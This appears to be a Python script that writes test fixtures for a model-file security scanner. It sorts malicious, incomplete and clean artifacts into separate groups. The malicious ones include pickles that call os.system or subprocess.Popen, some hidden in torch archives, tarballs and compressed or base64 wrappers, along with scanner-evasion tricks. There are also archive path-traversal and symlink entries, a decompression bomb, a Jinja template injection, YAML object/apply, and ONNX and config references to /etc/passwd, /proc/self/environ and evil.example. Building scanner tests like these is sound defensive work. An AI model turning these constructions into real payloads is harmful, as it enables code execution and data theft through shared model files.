"""Makes the hostile and the harmless files of the scanner tests, named by what is wrong with them.

`python -m tests.vectors.artifacts.make DIR` writes all of them. Payloads only say `echo garrison-test`;
none of them is ever loaded by a test. Nothing here needs a framework.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path

from tests.vectors.artifacts.packed import seven_zip

PAYLOAD = b"echo garrison-test"


def short(text: str | bytes) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode() if isinstance(text, str) else text
    return b"\x8c" + bytes([len(raw)]) + raw


def called(module: str, name: str, argument: str | bytes = PAYLOAD) -> bytes:
    """A protocol 4 pickle that calls module.name(argument)."""
    return b"\x80\x04" + short(module) + short(name) + b"\x93" + short(argument) + b"\x85R."


def called_text(module: str, name: str) -> bytes:
    """The same in protocol 0, which has no magic number."""
    return f"c{module}\n{name}\n(S'".encode() + PAYLOAD + b"'\ntR."


def zipped(members: Iterable[tuple[str, bytes]], *, packed: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data, archive.compression)
    return buffer.getvalue()


def torch_zip(data_pickle: bytes, *, packed: bool = False) -> bytes:
    members = [("archive/data.pkl", data_pickle), ("archive/byteorder", b"little"), ("archive/version", b"3\n")]
    return zipped([*members, ("archive/data/0", bytes(64))], packed=packed)


def tarred(members: Iterable[tuple[str, bytes]], *, kind: bytes = tarfile.REGTYPE) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.type = len(data), kind
            info.linkname = "/etc/passwd" if kind in (tarfile.SYMTYPE, tarfile.LNKTYPE) else ""
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def safetensors(header: object, data: bytes = b"") -> bytes:
    raw = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def tensor(begin: int, end: int, dtype: str = "F32", shape: list[int] | None = None) -> dict[str, object]:
    return {"dtype": dtype, "shape": [(end - begin) // 4] if shape is None else shape, "data_offsets": [begin, end]}


def npy(descr: str = "'<f4'", shape: str = "(2,)", data: bytes = bytes(8)) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def gguf_text(text: str | bytes) -> bytes:
    raw = text.encode() if isinstance(text, str) else text
    return struct.pack("<Q", len(raw)) + raw


def gguf(
    pairs: Iterable[tuple[str, int, bytes]] = (("general.architecture", 8, gguf_text("llama")),),
    tensors: Iterable[tuple[str, list[int], int, int]] = (("w", [8], 0, 0),),
    data: bytes = bytes(32),
    *,
    counts: tuple[int, int] | None = None,
) -> bytes:
    """`tensors` are (name, shape, type, offset); `counts` overrides what the header claims."""
    pairs, tensors = list(pairs), list(tensors)
    counts = counts or (len(tensors), len(pairs))
    head = b"GGUF" + struct.pack("<IQQ", 3, *counts)
    for key, kind, value in pairs:
        head += gguf_text(key) + struct.pack("<I", kind) + value
    for name, shape, kind, offset in tensors:
        head += gguf_text(name) + struct.pack("<I", len(shape)) + struct.pack(f"<{len(shape)}Q", *shape)
        head += struct.pack("<IQ", kind, offset)
    return head + bytes(-len(head) % 32) + data


def gguf_with_template(template: str) -> bytes:
    return gguf([("tokenizer.chat_template", 8, gguf_text(template))])


def joblib_array(after: bytes = b"") -> bytes:
    """A joblib stream: wrapper, padding, raw bytes that hold a STOP, then `after` in place of the STOP."""
    stream = b"\x80\x04" + short("joblib.numpy_pickle") + short("NumpyArrayWrapper") + b"\x93)\x81}("
    stream += short("subclass") + short("numpy") + short("ndarray") + b"\x93" + short("shape") + b"K\x20\x85"
    stream += short("order") + short("C") + short("dtype")
    stream += short("numpy") + short("dtype") + b"\x93" + short("u1") + b"\x89\x88\x87R(K\x03" + short("|")
    stream += b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    stream += short("allow_mmap") + b"\x88" + short("numpy_array_alignment_bytes") + b"K\x10ub"
    padding = 16 - (len(stream) + 1) % 16
    return stream + bytes([padding]) + b"\xff" * padding + b"." * 32 + (after or b".")


def proto(*fields: tuple[int, int | bytes]) -> bytes:
    """Protocol buffer fields: numbers below 128, or bytes shorter than 16,384."""
    out = b""
    for number, value in fields:
        if isinstance(value, int):
            out += bytes([number << 3, value])
        else:
            size = len(value)
            length = bytes([size]) if size < 128 else bytes([size & 127 | 128, size >> 7])
            out += bytes([number << 3 | 2]) + length + value
    return out


def onnx(tensor: bytes, *, domain: bytes = b"", metadata: bytes = b"") -> bytes:
    node = proto((1, b"x"), (2, b"y"), (4, b"Identity"), *([(7, domain)] if domain else []))
    graph = proto((1, node), (2, b"g"), (5, tensor))
    rest = [(14, proto((1, b"note"), (2, metadata)))] if metadata else []
    return proto((1, 8), (7, graph), (8, proto((2, 17))), *rest)


def onnx_outside(location: bytes, length: bytes = b"16") -> bytes:
    entries = ((b"location", location), (b"offset", b"0"), (b"length", length))
    return proto((1, 4), (2, 1), *((13, proto((1, key), (2, value))) for key, value in entries), (14, 1))


SYSTEM = called("posix", "system")

S08 = {
    # Three pickles that popular scanners pass.
    "pytorch_model.bin": called("os", "system"),
    "numpy_builtins.pkl": b"\x80\x04" + short("numpy") + short("__builtins__") + b"\x93" + short("eval") + b"\x86.",
    "numpy_builtins_eval.pkl": called("numpy", "__builtins__.eval", "1+1"),
    "spawnv_passfds.pkl": called("multiprocessing.util", "spawnv_passfds"),
    "nested.zip": zipped([("inner.zip", torch_zip(SYSTEM))], packed=True),
    "broken_tail.pkl": SYSTEM[:-1] + b"\x8c\xffcut",
    "model.7z": seven_zip([("data.pkl", SYSTEM)]),
}

REFUSED = {
    **S08,
    "protocol0.pkl": called_text("os", "system"),
    "inst.pkl": b"(S'" + PAYLOAD + b"'\nios\nsystem\n.",
    "inst_without_last_newline.pkl": b"(S'" + PAYLOAD + b"'\nios\nsystem.",
    "obj.pkl": b"(cos\nsystem\nS'" + PAYLOAD + b"'\no.",
    "newobj_ex.pkl": b"\x80\x04" + short("subprocess") + short("Popen") + b"\x93" + short(PAYLOAD) + b"\x85}\x92.",
    "build_on_import.pkl": b"\x80\x02ccollections\nOrderedDict\n}" + short("__setstate__") + b"Nsb.",
    "extension.pkl": b"\x80\x02\x82\x01)R.",
    "memoised_name.pkl": b"\x80\x04" + short("os") + b"\x940" + short("system") + b"\x940h\x00h\x01\x93"
    + short(PAYLOAD) + b"\x85R.",
    "escaped_name.pkl": b"S'\\x6f\\x73'\nS'sys\\164em'\n\x93" + short(PAYLOAD) + b"\x85R.",
    "dotted.pkl": called("torch.serialization", "os.system"),
    "dotted_allowed.pkl": called("collections", "OrderedDict.__class__.mro"),
    "computed_call.pkl": b"\x80\x04" + short("functools") + short("partial") + b"\x93"
    + short("collections") + short("OrderedDict") + b"\x93\x85R)R.",
    "type_with_bases.pkl": b"\x80\x04" + short("builtins") + short("type") + b"\x93(" + short("X") + b")}tR.",
    "second_stream.pkl": b"\x80\x04K\x01." + SYSTEM,
    "zero_padding.pkl": b"\x80\x04K\x01." + SYSTEM + bytes(64),
    "in_bytes.pkl": b"\x80\x04C" + bytes([len(SYSTEM)]) + SYSTEM + b".",
    "in_base64.pkl": b"\x80\x04" + short(base64.b64encode(SYSTEM)) + b".",
    "torch_load_from_bytes.pkl": b"\x80\x02ctorch.storage\n_load_from_bytes\nB"
    + struct.pack("<I", len(SYSTEM)) + SYSTEM + b"\x85R.",
    "joblib_after_array.joblib": joblib_array(b"0" + SYSTEM[2:]),
    "joblib.z": zlib.compress(joblib_array(b"0" + SYSTEM[2:])),
    "torch.pt": torch_zip(SYSTEM),
    "torch_packed.pt": torch_zip(SYSTEM, packed=True),
    "pickle_before_zip.pt": SYSTEM + zipped([("a.txt", b"text")]),
    "evil.tar": tarred([("a.pkl", SYSTEM)]),
    "evil.tar.gz": gzip.compress(tarred([("a.pkl", SYSTEM)]), mtime=0),
    "evil.pkl.bz2": bz2.compress(SYSTEM),
    "evil.pkl.xz": lzma.compress(SYSTEM),
    "object_array.npy": npy("'|O'", "(1,)", SYSTEM),
    "header_code.npy": npy("__import__('os').system('echo garrison-test')"),
    "size_wrong.npy": npy(shape="(3,)"),
    "evil.npz": zipped([("a.npy", npy("'|O'", "(1,)", SYSTEM))]),
    "slip.zip": zipped([("../x.txt", b"text")]),
    "absolute.zip": zipped([("/etc/x.txt", b"text")]),
    "duplicate_case.zip": zipped([("a.txt", b"text"), ("A.txt", b"other")]),
    "prefix.zip": b"hidden" + zipped([("a.txt", b"text")]),
    "bomb.gz": gzip.compress(gzip.compress(bytes(80 << 20), mtime=0), mtime=0),
    "link.tar": tarred([("a", b"")], kind=tarfile.SYMTYPE),
    "device.tar": tarred([("a", b"")], kind=tarfile.CHRTYPE),
    "slip.tar": tarred([("../x.txt", b"text")]),
    "st_overlap.safetensors": safetensors({"a": tensor(0, 8), "b": tensor(4, 12)}, bytes(12)),
    "st_hole.safetensors": safetensors({"a": tensor(0, 4), "b": tensor(8, 12)}, bytes(12)),
    "st_trailing.safetensors": safetensors({"a": tensor(0, 4)}, bytes(4) + SYSTEM),
    "st_beyond.safetensors": safetensors({"a": tensor(0, 400)}, bytes(4)),
    "st_span.safetensors": safetensors({"a": tensor(0, 4, shape=[2])}, bytes(4)),
    "st_duplicate.safetensors": safetensors(
        b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
        bytes(4),
    ),
    "st_float.safetensors": safetensors({"a": {"dtype": "F32", "shape": [1.0], "data_offsets": [0, 4]}}, bytes(4)),
    "st_metadata.safetensors": safetensors({"__metadata__": {"a": 1}, "a": tensor(0, 4)}, bytes(4)),
    "st_cut.safetensors": safetensors({"a": tensor(0, 4)}, bytes(4))[:20],
    "gguf_overlap.gguf": gguf(tensors=[("a", [8], 0, 0), ("b", [8], 0, 0)]),
    "gguf_bounds.gguf": gguf(tensors=[("a", [800], 0, 0)]),
    "gguf_gap.gguf": gguf(tensors=[("a", [8], 0, 64)], data=bytes(96)),
    "gguf_trailing.gguf": gguf(data=bytes(32) + SYSTEM),
    "gguf_duplicate.gguf": gguf([("a", 4, bytes(4)), ("a", 4, bytes(4))]),
    "gguf_many.gguf": gguf(counts=(1, 1 << 60)),
    "gguf_array.gguf": gguf([("a", 9, struct.pack("<IQ", 8, 1 << 62))]),
    "gguf_cut.gguf": gguf()[:40],
    "gguf_type.gguf": gguf([("a", 99, b"")]),
    "gguf_template.gguf": gguf_with_template("{{ cycler.__init__.__globals__.os.popen('id') }}"),
    "auto_map/config.json": json.dumps({"auto_map": {"AutoModel": "modeling.Model"}}).encode(),
    "trust/config.json": b'{"a": [{"trust_remote_code": true}]}',
    "pipeline/model_index.json": b'{"_class_name": "P", "custom_pipelines": "x"}',
    "component/model_index.json": b'{"_class_name": "P", "unet": ["evil_module", "Net"]}',
    "adapter/adapter_config.json": b'{"auto_mapping": {"base_model_class": "X", "parent_library": "evil.lib"}}',
    "kernel/config.json": b'{"attn_implementation": "evil-org/kernel"}',
    "weight_map/model.safetensors.index.json": b'{"weight_map": {"a": "../../etc/passwd"}}',
    "url/tokenizer_config.json": b'{"vocab_file": "http://evil.example/vocab.txt"}',
    "modules/modules.json": b'[{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}]',
    "hydra/config.json": b'{"model": {"_target_": "os.system"}}',
    "jsonpickle/config.json": b'{"py/object": "os.system"}',
    "duplicate/config.json": b'{"a": 1, "a": 2}',
    "code/modeling.py": b"import os\n",
    "shebang/run.txt": b"#!/bin/sh\ntrue\n",
    "yaml/config.yaml": b"a: !!python/object/apply:os.system ['echo garrison-test']\n",
    "requirements.txt": b"--extra-index-url http://evil.example/simple\nnumpy\n",
    "traversal.onnx": onnx(onnx_outside(b"../../etc/passwd")),
    "url.onnx": onnx(onnx_outside(b"http://evil.example/w.bin")),
    "absolute.onnx": onnx(onnx_outside(b"/proc/self/environ")),
    "size.onnx": onnx(proto((1, 4), (2, 1), (9, bytes(12)))),
    "python_operator.onnx": onnx(proto((1, 4), (2, 1), (9, bytes(16))), domain=b"ai.onnx.contrib"),
    "program.onnx": onnx(proto((1, 4), (2, 1), (9, bytes(16))), metadata=b"__import__('os').system('id')"),
    "torchscript.pt": zipped(
        [("m/data.pkl", b"\x80\x02N."), ("m/code/__torch__.py", b"def f(x):\n  return torch.from_file('/etc/passwd')\n")]
    ),
}

INCOMPLETE = {
    "empty.bin": b"",
    "random.dat": bytes(range(255, 0, -1)) * 40,
    "cut.pkl": b"\x80\x04" + short("collections") + short("OrderedDict") + b"\x93)R",
    "trailing.pkl": b"\x80\x04K\x01.\xfe\xfe\xfe\xfe",
    "custom_operator.onnx": onnx(proto((1, 4), (2, 1), (9, bytes(16))), domain=b"my.domain"),
    "unknown.zst": b"\x28\xb5\x2f\xfd" + bytes(32),
    "unsized.joblib": joblib_array().replace(short("u1"), short("q9")),
    # numpy takes the size of a void type from its state: the real reader goes on inside "the array".
    "dtype_state.joblib": joblib_array().replace(short("u1"), short("V9")),
    "dtype_flags.joblib": joblib_array().replace(b"K\x00tb", b"K\x01tb"),
    "deep.json": b"[" * 5_000 + b"]" * 5_000,
    "cut.json": b'{"a": 1',
    "notes.xyz": b"some words",
    "cut.gz": gzip.compress(b"some words" * 100, mtime=0)[:-12],
}

MESSAGES = (
    "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}{{ '<|im_start|>system\n' }}"
    "{% endif %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)

CLEAN = {
    "model.safetensors": safetensors({"__metadata__": {"format": "pt"}, "a": tensor(0, 4), "b": tensor(4, 12)}, bytes(12)),
    "empty_tensor.safetensors": safetensors({"a": tensor(0, 0)}),
    "model.gguf": gguf(),
    "template.gguf": gguf_with_template(MESSAGES),
    "model.onnx": onnx(proto((1, 4), (2, 1), (9, bytes(16))), metadata=b"made by a test"),
    "outside.onnx": onnx(onnx_outside(b"weights.bin")),
    "array.npy": npy(),
    "fields.npy": npy("[('a', '<f4'), ('b', '<i4', (2,))]", "(2,)", bytes(24)),
    "arrays.npz": zipped([("a.npy", npy()), ("b.npy", npy("'<U3'", "()", bytes(12)))], packed=True),
    "objects.npy": npy("'|O'", "(1,)", pickle.dumps(["a"], 4)),
    "plain_0.pkl": pickle.dumps({"a": [1, 2.5, None, True, "b", b"c", (1, 2)]}, 0),
    "plain_5.pkl": pickle.dumps({"a": [1, 2.5, None, True, "b", b"c", (1, 2), {3}, frozenset([4])]}, 5),
    "two_streams.pkl": pickle.dumps(1, 4) + pickle.dumps([2], 2),
    "array.joblib": joblib_array(),
    "array.joblib.gz": gzip.compress(joblib_array(), mtime=0),
    "torch.pt": torch_zip(b"\x80\x02}q\x00."),
    "weights.tar.xz": lzma.compress(tarred([("m/model.safetensors", safetensors({"a": tensor(0, 4)}, bytes(4)))])),
    "config.json": b'{"architectures": ["LlamaForCausalLM"], "_name_or_path": "/home/me/x", "rope": NaN}',
    "tokenizer_config.json": json.dumps({"chat_template": MESSAGES, "model_max_length": 10**30}).encode(),
    "chat_template.jinja": MESSAGES.encode(),
    "modules.json": b'[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]',
    "model_index.json": b'{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"]}',
    "README.md": "# A model\n".encode(),
    "LICENSE": b"Apache-2.0\n",
    ".gitattributes": b"*.bin filter=lfs\n",
    "vocab.txt": b"[PAD]\ncat\ndog\n.\n(if\n",
    "merges.txt": b"#version: 0.2\ni n\nt h\n",
    "tokenizer.model": b"\x0a\x0e\x0a\x05<unk>\x15\x00\x00\x00\x00\x18\x02" + b"\x12\x02\x08\x01",
}


def write(directory: Path) -> None:
    for label, files in (("refused", REFUSED), ("incomplete", INCOMPLETE), ("clean", CLEAN)):
        for name, data in files.items():
            path = directory / label / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)


if __name__ == "__main__":
    write(Path(sys.argv[1]))
